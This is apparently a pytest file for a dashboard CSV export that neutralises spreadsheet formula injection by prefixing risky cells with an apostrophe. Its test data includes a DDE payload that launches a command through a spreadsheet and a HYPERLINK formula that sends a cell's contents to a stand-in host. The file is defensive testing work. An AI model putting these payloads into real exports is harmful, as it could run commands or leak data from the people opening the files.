"""dashboard.downloads: CSV that a spreadsheet opens as data, never as formulas."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from dashboard.downloads import csv_bytes, neutralise, safe_frame


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Spring Search", "Spring Search"),
    ("a=b", "a=b"),
    ("", ""),
    ("-12.5", "-12.5"),  # text that is a plain number cannot be a formula
    ("+3", "+3"),
    ("-1e-3", "-1e-3"),
    (-12.5, -12.5),
    (-3, -3),
    (None, None),
    (True, True),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def _table() -> pd.DataFrame:
    return pd.DataFrame({
        "campaign": ["=cmd|' /C calc'!A0", "Spring Search £", "@evil", "-bad", "Café Brand", None],
        "spend": [100.5, -12.25, 0.0, -3.0, 7.0, np.nan],
        "leads": np.array([1, -2, 3, 0, 5, 6], dtype="int64"),
        "change": ["-5", "+2", "=A1", "ok", "\t=x", "-0.5"],
        "guardrail": [True, False, True, True, False, True],
        "day": pd.to_datetime(["2024-06-01"] * 6),
        "=HEADER": ["x"] * 6,
        "status": pd.Categorical(["=a", "b", "b", "b", "b", "b"]),
    })


def test_csv_bytes_is_utf8_with_bom_and_neutralised():
    data = csv_bytes(_table())
    assert isinstance(data, bytes)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["campaign", "spend", "leads", "change", "guardrail", "day", "'=HEADER", "status"]
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert rows[2][:4] == ["Spring Search £", "-12.25", "-2", "+2"]
    assert rows[3][0] == "'@evil" and rows[3][3] == "'=A1"
    assert rows[4][0] == "'-bad" and rows[4][1] == "-3.0"
    assert rows[5][0] == "Café Brand" and rows[5][3] == "'\t=x"
    assert rows[1][7] == "'=a"
    for row in rows[1:]:  # nothing a spreadsheet would evaluate, numbers aside
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)


def test_round_trip_through_pandas():
    df = _table()
    back = pd.read_csv(io.BytesIO(csv_bytes(df)), encoding="utf-8-sig", parse_dates=["day"])
    assert list(back.columns) == ["campaign", "spend", "leads", "change", "guardrail", "day", "'=HEADER", "status"]
    assert back["spend"].tolist()[:5] == [100.5, -12.25, 0.0, -3.0, 7.0] and np.isnan(back["spend"].iloc[5])
    assert back["leads"].dtype.kind == "i" and back["leads"].tolist() == [1, -2, 3, 0, 5, 6]
    assert back["guardrail"].tolist() == df["guardrail"].tolist()
    assert (back["day"] == df["day"]).all()
    assert back["campaign"].tolist()[:5] == ["'=cmd|' /C calc'!A0", "Spring Search £", "'@evil", "'-bad", "Café Brand"]
    assert back["change"].tolist() == ["-5", "+2", "'=A1", "ok", "'\t=x", "-0.5"]


def test_input_is_not_changed_and_index_optional():
    df = _table()
    before = df.copy()
    safe_frame(df)
    csv_bytes(df)
    pd.testing.assert_frame_equal(df, before)
    indexed = pd.DataFrame({"spend": [1.0]}, index=pd.Index(["=x"], name="@adset"))
    assert csv_bytes(indexed, index=True).decode("utf-8-sig").splitlines() == ["'@adset,spend", "'=x,1.0"]
    assert csv_bytes(indexed).decode("utf-8-sig").splitlines() == ["spend", "1.0"]


def test_string_dtype_and_empty_frame():
    df = pd.DataFrame({"name": pd.array(["=x", None, "y"], dtype="string")})
    assert csv_bytes(df).decode("utf-8-sig").splitlines() == ["name", "'=x", '""', "y"]  # a lone empty field is quoted
    assert csv_bytes(pd.DataFrame({"a": []})).decode("utf-8-sig").splitlines() == ["a"]
